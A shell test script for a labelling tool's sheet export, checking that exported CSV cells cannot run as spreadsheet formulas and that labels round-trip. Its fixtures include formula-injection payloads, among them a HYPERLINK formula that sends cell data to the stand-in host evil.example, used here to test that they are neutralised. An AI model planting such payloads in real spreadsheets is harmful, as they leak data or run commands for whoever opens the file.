#!/bin/sh
# Production rows on a labelling sheet: no field runs in a spreadsheet, columns
# may be called as the sheet's own are, and all of it comes back as it was.
. "$(dirname "$0")/lib.sh"
cat >make.py <<'PY'
import csv, json
names = ['text', 'note', 'label', 'row', 'labeller', 'said_by', 'input:label',
         'input:input:row', 'input:text', '=cmd', "'=cmd", 'plain']
texts = ['=HYPERLINK("http://evil.example/?"&A1,"look")', '+cmd|x', '-1+1',
         '@SUM(A1)', '\t=1', "'=1", "''=1", "'", "'quoted'", "'-5", '-5', '',
         '=1,"a"\nb', 'plain']
rows = [[t] + [texts[(i + k) % len(texts)] for k in range(2, len(names))] +
        [str(i)] for i, t in enumerate(texts)]
rows = [dict(zip(names, r)) for r in rows]
def write(path, names, rows):
    with open(path, 'w', newline='') as f:
        w = csv.DictWriter(f, names, lineterminator='\n')
        w.writeheader()
        w.writerows(rows)
def read(path):
    return list(csv.DictReader(open(path, newline='')))
def is_number(s):
    try:
        float(s)
        return True
    except ValueError:
        return False
def check(path, n):
    got = list(csv.reader(open(path, newline='')))
    assert len(got) == n + 1, len(got)
    assert len(set(got[0])) == len(got[0]), got[0]
    for c in (c for r in got for c in r):
        assert not c or c[0] not in '=+-@\t\r' or is_number(c), c
PY
python3 - <<'PY'
exec(open('make.py').read())
write('sample.csv', names, rows)
write('set.csv', ['id'] + names + ['y'],
      [dict(rows[-1], id='a', text='x', y='yes'),
       dict(rows[-1], id='b', text='y', y='no')])
PY
expect 0 init
expect 0 model add m --task binary
expect 0 testset create s set.csv --task binary --target y --positive yes \
	--key id
expect 0 problem add hostile --model m --testset s --rule 'plain>=0'
expect 0 problem sheet P-1 sample.csv -o sheet.csv
python3 - <<'PY' || die "the sheet"
exec(open('make.py').read())
check('sheet.csv', len(rows))
sheet = read('sheet.csv')
assert {'row', 'label', 'labeller', 'input:label', 'input:input:label',
        'input:input:input:row', 'input:text', 'input:note'} <= set(sheet[0])
for who in 'ana', 'bo':
    for i, r in enumerate(sheet):
        r['label'] = 'no' if who == 'bo' and i < 3 else 'yes'
        r['note'] = '=my own'
    write(who + '.csv', list(sheet[0]), sheet)
sheet[3]['input:label'] += ' '
write('changed.csv', list(sheet[0]), sheet)
PY
expect 1 problem labels P-1 changed.csv --labeller cy
complained ": the inputs are not those of the sheet"
expect 0 problem labels P-1 ana.csv --labeller '=ana'
expect 0 problem labels P-1 bo.csv --labeller bo
said "11 agreed, 3 in conflict"
expect 0 problem labels P-1 --conflicts -o queue.csv
python3 - <<'PY' || die "the queue"
exec(open('make.py').read())
check('queue.csv', 3)
queue = read('queue.csv')
assert queue[0]['said_by'] == "'=ana: yes; bo: no"
write('expert.csv', list(queue[0]), [dict(r, label='no') for r in queue])
PY
expect 0 problem labels P-1 expert.csv --expert --labeller dr-li
expect 0 problem labels P-1 --grow
expect 0 problem show P-1 --json
python3 - <<'PY' || die "what came back"
exec(open('make.py').read())
key = lambda r: sorted(r.items())
reports = json.load(open('out'))['reports']
assert all(r['in_set'] for r in reports)
got = [r['inputs'] for r in reports]
assert sorted(got, key=key) == sorted(rows, key=key), got
PY
expect 0 fsck
